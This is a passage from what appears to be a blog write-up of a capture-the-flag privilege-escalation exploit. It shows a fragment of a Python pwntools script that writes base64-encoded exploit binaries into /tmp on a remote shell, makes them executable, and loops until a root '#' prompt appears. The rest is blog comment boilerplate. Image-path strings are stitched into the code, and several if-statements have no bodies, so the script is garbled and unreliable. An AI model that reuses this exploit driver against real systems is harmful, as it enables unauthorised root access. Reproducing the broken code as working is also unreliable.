    r.sendlineafter("/tmp $ ",'(echo -n "'+exp(leak[i]).encode('base64').replace('\n','')+'" | base64 -d) > /tmp/eee'+str(i)+'; chmod +x /tmp/eee'+str(i))r.recvuntil("tmp $")while (1):
    for i in range(8):
            print "running "+str(j%5)
            ret = r.recvuntil("tmp",timeout=2)
            if ret=='':
            print ret
            if "#" in ret:
            r.recvuntil("tmp $")



Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Facebookphoto

You are commenting using your Facebookaccount. Log Out /  Change )

Connecting to%s

Blog at

Up ↑

%d bloggers like this: